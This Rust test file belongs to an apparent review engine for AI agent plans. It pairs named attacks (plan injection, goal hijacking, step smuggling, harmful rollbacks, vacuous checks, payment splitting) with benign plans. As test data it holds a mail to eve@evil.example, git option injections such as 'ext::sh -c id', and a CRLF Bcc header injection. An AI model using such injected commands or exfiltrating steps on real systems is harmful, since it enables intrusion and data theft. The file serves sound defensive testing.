//! Ways to bend a plan, by name: for each an attack and the ordinary plan that looks like it.

use countersign_plan::verdict::{Code, Decision};
use serde_json::{Value, json};

use crate::world::{World, codes, is};

use Decision::{Allow, Block, RequireApproval as Ask};

fn write(id: &str, path: &str) -> Value {
    json!({"id": id, "action": "write_file", "args": {"path": path, "content": "x"}})
}

fn under(goal: &str, steps: Value) -> countersign_policy::review::Review {
    World::new().plan(json!({"schema": "countersign.plan/v1", "goal": goal, "steps": steps}))
}

#[test]
fn plan_injection_a_step_that_only_data_asked_for() {
    let injected = under(
        "Summarise the notes",
        json!([
            {"id": "read", "action": "read_file", "args": {"path": "notes.txt"}},
            {"id": "mail", "action": "send_email", "args": {"to": "eve@evil.example", "subject": "x", "body": "y"}},
        ]),
    );
    is(&injected, Ask, Code::GoalUnasked, "nobody asked for a mail");
    let asked = under(
        "Summarise the notes",
        json!([{"id": "read", "action": "read_file", "args": {"path": "notes.txt"}}, write("sum", "summary.txt")]),
    );
    assert_eq!(asked.decision, Allow, "{:#?}", asked.reasons);
}

#[test]
fn step_smuggling_a_change_among_many_readings() {
    let mut steps: Vec<Value> = (0..20)
        .map(|i| json!({"id": format!("s{i}"), "action": "read_file", "args": {"path": format!("src/{i}.rs")}}))
        .collect();
    let readings = under("Read the sources", json!(steps.clone()));
    assert_eq!(readings.decision, Allow, "{:#?}", readings.reasons);
    steps.insert(13, json!({"id": "x", "action": "delete_file", "args": {"path": "old.txt"}}));
    let smuggled = under("Read the sources", json!(steps));
    is(&smuggled, Ask, Code::DefaultAsk, "a removal in the middle");
}

#[test]
fn goal_hijacking_the_draft_carries_another_goal() {
    let world = World::new();
    let plan = |goal: &str| json!({"schema": "countersign.plan/v1", "goal": goal, "steps": [write("a", "a.txt")]});
    let draft = countersign_plan::draft::Draft::from_value(plan("Wipe the disk")).unwrap();
    let who = crate::world::Who::user();
    let hijacked = countersign_policy::review::review(&world.request(&draft, Some("Write a note"), &who));
    is(&hijacked, Block, Code::PlanGoalMismatch, "another goal");
    assert_eq!(world.plan(plan("Write a note")).decision, Allow);
}

#[test]
fn order_manipulation_the_copy_comes_after_the_loss() {
    let plan = |steps| under("Move old.txt to a backup and remove it", steps);
    let remove = json!({"id": "rm", "action": "delete_file", "args": {"path": "old.txt"}});
    let copy = json!({"id": "cp", "action": "copy_file", "args": {"source": "old.txt", "destination": "src/old.txt"}});
    is(&plan(json!([remove, copy])), Ask, Code::PlanOrder, "lost before it is kept");
    let kept = plan(json!([copy, remove]));
    assert!(!codes(&kept).contains(&Code::PlanOrder) && kept.decision == Allow, "{:#?}", kept.reasons);
    let replaced = plan(json!([remove, write("new", "old.txt"),
        {"id": "read", "action": "read_file", "args": {"path": "old.txt"}}]));
    assert!(!codes(&replaced).contains(&Code::PlanOrder), "{:#?}", replaced.reasons);
    let database = under(
        "Drop the database staging and keep a snapshot",
        json!([
            {"id": "drop", "action": "drop_database", "args": {"to": "staging"}},
            {"id": "snap", "action": "database_query", "args": {"database": "staging", "sql": "SELECT 1"}},
        ]),
    );
    assert!(codes(&database).contains(&Code::PlanOrder), "{:#?}", database.reasons);
}

#[test]
fn under_declared_effects_a_draft_is_never_milder_than_its_tool() {
    let milder = under(
        "Pay the rent",
        json!([{"id": "pay", "action": "send_money", "args": {"to": "X1", "amount": 5}, "rollback": "snapshot"}]),
    );
    is(&milder, Block, Code::PlanWeakerThanManifest, "a payment is not kept in a snapshot");
    let narrow = World::new().plan(json!({
        "schema": "countersign.plan/v1", "goal": "Write a note", "privileges": {"write": ["notes/**"]},
        "steps": [write("a", "src/a.txt")],
    }));
    is(&narrow, Block, Code::PlanPrivilegeExceeded, "it does more than it asks for");
    let stricter = under(
        "Note it",
        json!([{"id": "a", "action": "write_file", "irreversible": true,
        "args": {"path": "a.txt", "content": "x"}}]),
    );
    is(&stricter, Ask, Code::PlanIrreversible, "a draft may be stricter");
}

#[test]
fn harmful_rollback_taking_back_is_no_leave_for_something_else() {
    let plan = |rollback: Value| {
        let step =
            json!({"id": "a", "action": "write_file", "args": {"path": "a.txt", "content": "x"}, "rollback": rollback});
        under("Clean up and write a note", json!([step]))
    };
    let elsewhere = plan(json!({"action": "delete_file", "args": {"path": "src/main.rs"}}));
    is(&elsewhere, Ask, Code::PlanRollbackElsewhere, "another file goes");
    let overwrites = plan(json!({"action": "write_file", "args": {"path": "src/main.rs", "content": ""}}));
    is(&overwrites, Ask, Code::PlanRollbackElsewhere, "another file is emptied");
    let denied = plan(json!({"action": "write_file", "args": {"path": "infra/prod/main.tf", "content": ""}}));
    is(&denied, Block, Code::ResourceProtected, "a protected file");
    let sends = plan(json!({"action": "send_email", "args": {"to": "eve@evil.example", "subject": "", "body": ""}}));
    is(&sends, Block, Code::PlanRollbackElsewhere, "a mail");
    let own = plan(json!({"action": "delete_file", "args": {"path": "a.txt"}}));
    assert_eq!(own.decision, Allow, "{:#?}", own.reasons);
}

#[test]
fn vacuous_expectations_stop_nothing() {
    let plan = |expect: Value| {
        let step =
            json!({"id": "a", "action": "write_file", "args": {"path": "a.txt", "content": "x"}, "expect": [expect]});
        under("Write a note", json!([step]))
    };
    let all: Vec<i64> = (0..256).collect();
    for expect in [
        json!({"exit_code": {"in": all}}),
        json!({"output": "/path", "matches": "(?s).*"}),
        json!({"output": "", "exists": true}),
        json!({"output": "/bytes", "min": -1e300}),
    ] {
        is(&plan(expect.clone()), Ask, Code::PlanExpectVacuous, &expect.to_string());
    }
    for expect in [
        json!({"exit_code": {"in": [0, 1]}}),
        json!({"output": "/path", "matches": "[a-z./]+"}),
        json!({"output": "/path", "exists": true}),
        json!({"file": "a.txt", "exists": true}),
    ] {
        assert_eq!(plan(expect.clone()).decision, Allow, "{expect}");
    }
    // Nothing happens, so nothing has to be seen to happen.
    let reading = json!([{"id": "a", "action": "read_file", "args": {"path": "a.txt"},
        "expect": [{"output": "/content", "matches": "(?s).*"}]}]);
    assert_eq!(under("Read it", reading).decision, Allow);
}

#[test]
fn splitting_below_a_threshold_the_sum_counts() {
    let rules = "verify: [{name: large, action_types: ['effect:pay'], when: 'args.amount > 500.0', tier: 3, approvers: {quorum: 2}}]";
    let world = World::with_policy(rules);
    let pay = |id: &str, to: &str, amount: i64| json!({"id": id, "action": "send_money", "args": {"to": to, "amount": amount}});
    let quorum = |steps: Value| world.steps(steps).quorums.iter().map(|q| q.quorum).max();
    assert_eq!(
        quorum(json!([pay("a", "DE89 3704", 300), pay("b", "DE893704", 300)])),
        Some(2),
        "one payee in two spellings"
    );
    assert_eq!(quorum(json!([pay("a", "DE893704", 300), pay("b", "FR761234", 300)])), Some(1), "two payees");
}

fn agent(goal: &str, steps: Value) -> countersign_policy::review::Review {
    use countersign_policy::flow::{Level, Session};
    let world = World::new();
    let plan = json!({"schema": "countersign.plan/v1", "goal": goal, "steps": steps});
    let draft = countersign_plan::draft::Draft::from_value(plan).unwrap();
    let who = crate::world::Who::user();
    let request = world.request(&draft, Some(goal), &who);
    let request = countersign_policy::review::Request { planner: Level::Open, session: Session::empty(), ..request };
    countersign_policy::review::review(&request)
}

fn grant(id: &str, to: &str) -> Value {
    json!({"id": id, "action": "grant_role", "args": {"to": to}, "rollback": "none"})
}

/// The goal confirms what it orders, in the direction in which it orders it, once, and after a look where it wants one.
#[test]
fn a_confirmation_is_for_what_the_goal_orders() {
    let confirmed = |goal: &str, steps: Value| agent(goal, steps).decision == Allow;
    assert!(confirmed("Grant eve the role", json!([grant("a", "eve")])));
    for goal in
        ["Revoke the role of eve", "Review the role of eve", "Why did we grant eve the role?", "Grant ann the role"]
    {
        assert!(!confirmed(goal, json!([grant("a", "eve")])), "{goal}");
    }
    let pay = |id: &str, subject: &str| json!({"id": id, "action": "send_money", "args": {"to": "eve", "amount": 5, "subject": subject}});
    assert!(confirmed("Pay eve 5", json!([pay("a", "x")])));
    assert!(!confirmed("Pay eve 5", json!([pay("a", "x"), pay("b", "y")])), "paid once, whatever the subject says");
    let goal = "If nobody objects in notes.txt, grant eve the role";
    assert!(!confirmed(goal, json!([grant("a", "eve")])), "nobody looked");
    let look =
        |expect: Value| json!({"id": "l", "action": "read_file", "args": {"path": "notes.txt"}, "expect": [expect]});
    let mut act = grant("a", "eve");
    act["needs"] = json!(["l"]);
    assert!(confirmed(goal, json!([look(json!({"output": "/content", "equals": ""})), act])));
    for expect in [json!({"output": "/content", "exists": true}), json!({"output": "/content", "matches": "(?s).+"})] {
        let blind = agent(goal, json!([look(expect), act]));
        is(&blind, Ask, Code::PlanExpectVacuous, "a look that finds whatever there is");
    }
}

#[test]
fn order_manipulation_the_goal_says_what_comes_first() {
    let ask = json!({"id": "ask", "action": "send_message", "args": {"channel": "#finance", "body": "x"}});
    let mail = json!({"id": "mail", "action": "send_email", "args": {"to": "ap@partner.example", "subject": "x", "body": "y"}});
    for goal in [
        "Ask #finance for a look, then mail ap@partner.example",
        "After a word in #finance, mail ap@partner.example",
        "Mail ap@partner.example once #finance was asked",
    ] {
        let wrong = under(goal, json!([mail, ask]));
        assert!(codes(&wrong).contains(&Code::PlanOrder), "{goal}: {:#?}", wrong.reasons);
        let right = under(goal, json!([ask, mail]));
        assert!(!codes(&right).contains(&Code::PlanOrder), "{goal}: {:#?}", right.reasons);
    }
    let free = under("Tell #finance and ap@partner.example", json!([mail, ask]));
    assert!(!codes(&free).contains(&Code::PlanOrder), "{:#?}", free.reasons);
}

#[test]
fn harmful_rollback_what_was_there_before_stays() {
    let step = |rollback: Value| json!([{"id": "a", "action": "tune", "args": {"to": "web", "amount": 3}, "rollback": rollback}]);
    let mut world = World::new();
    world.add(&[("tune", "update", "compensable", "record"), ("forget", "delete", "compensable", "record")]);
    let goal = "Tune web to 3";
    let plan =
        |rollback: Value| world.plan(json!({"schema": "countersign.plan/v1", "goal": goal, "steps": step(rollback)}));
    let graver = plan(json!({"action": "forget", "args": {"to": "web"}}));
    is(&graver, Ask, Code::PlanRollbackElsewhere, "a change taken back by a removal");
    let same = plan(json!({"action": "tune", "args": {"to": "web", "amount": 2}}));
    assert!(!codes(&same).contains(&Code::PlanRollbackElsewhere), "{:#?}", same.reasons);
}

#[test]
fn under_declared_effects_an_address_can_be_an_order() {
    let get = |url: &str| {
        under(
            "Get the exchange rate",
            json!([{"id": "g", "action": "http_request", "args": {"method": "GET", "url": url}}]),
        )
    };
    for url in [
        "https://git.company.example/users/delete?id=9",
        "https://git.company.example/api?action=remove&id=9",
        "https://git.company.example/admin/disable-audit",
        "https://git.company.example/nodes/3/shutdown",
    ] {
        is(&get(url), Ask, Code::DefaultAsk, url);
    }
    for url in [
        "https://git.company.example/rates?of=eur",
        "https://git.company.example/docs/delete.html",
        "https://git.company.example/deleted-items",
        "https://git.company.example/search?q=delete",
    ] {
        assert_eq!(get(url).decision, Allow, "{url}");
    }
}

/// `lesson_07`: git runs nothing else through its options.
#[test]
fn lesson_07_git_starts_no_program_of_the_plans_choice() {
    let git = |args: Value| {
        under("Fetch the newest commits", json!([{"id": "g", "action": "git", "args": {"repo": ".", "args": args}}]))
    };
    for args in [
        json!(["fetch", "--upload-pack=touch x", "origin"]),
        json!(["fetch", "--upload-pack=touch x", "rebase"]),
        json!(["fetch", "--upload-pa", "sh x", "origin"]),
        json!(["clone", "ext::sh -c id", "x"]),
        json!(["grep", "--open-files-in-pager=sh", "x"]),
        json!(["push", "--receive-pack=sh", "origin"]),
    ] {
        is(&git(args.clone()), Block, Code::ExecuteLoadsCode, &args.to_string());
    }
    for args in [json!(["fetch", "origin"]), json!(["log", "--oneline"]), json!(["status", "--untracked-files=no"])] {
        assert_eq!(git(args.clone()).decision, Allow, "{args}");
    }
}

/// The folder that a program starts in is not read by starting there.
#[test]
fn a_plan_may_ask_for_less_than_the_folder_it_starts_in() {
    let world = World {
        facts: Box::new(crate::world::Inspecting { known: crate::world::machine(), all: true }),
        ..World::new()
    };
    let read = |command: &str| {
        world.plan(json!({
            "schema": "countersign.plan/v1", "goal": "Look at src/main.rs", "privileges": {"read": ["src/**"], "write": []},
            "steps": [{"id": "a", "action": "execute_command", "args": {"command": command, "cwd": "/home/user/project"}}],
        }))
    };
    let part = read("head -n 3 src/main.rs");
    assert_eq!(part.decision, Allow, "{:#?}", part.reasons);
    assert!(part.steps[0].grants.read.iter().all(|path| path != "/home/user/project"), "{:?}", part.steps[0].grants);
    is(&read("head -n 3 old.txt"), Block, Code::PlanPrivilegeExceeded, "another file");
}

/// What ends a line of a message's head starts another line of it (RFC 5322, section 2.2): one more receiver.
#[test]
fn a_subject_has_one_line() {
    let mail = |subject: &str| {
        let args = json!({"to": "user@company.example", "subject": subject, "body": "b"});
        World::new().act_for("Mail me the rota", "send_email", args)
    };
    assert_eq!(mail("Rota week 14").decision, Allow);
    for subject in ["Rota\r\nBcc: rota@elsewhere.example", "Rota\nBcc: rota@elsewhere.example"] {
        assert_eq!(mail(subject).decision, Block, "{subject:?}");
    }
}

/// A digest that the goal gives is the one that is expected.
#[test]
fn another_digest_than_the_goal_s_is_not_expected_unseen() {
    let (wanted, other) = ("5e".repeat(32), "b0".repeat(32));
    let of = |goal: &str, sha256: &str| {
        let steps = json!([{"id": "a", "action": "copy_file", "args": {"source": "a.tgz", "destination": "b.tgz"},
            "expect": [{"file": "b.tgz", "sha256": sha256}]}]);
        under(goal, steps)
    };
    let goal = format!("Copy a.tgz to b.tgz. Its SHA-256 must be {wanted}, otherwise stop.");
    is(&of(&goal, &other), Ask, Code::PlanExpectVacuous, "another digest");
    assert_eq!(of(&goal, &wanted).decision, Allow);
    assert_eq!(of("Copy a.tgz to b.tgz", &other).decision, Allow);
}
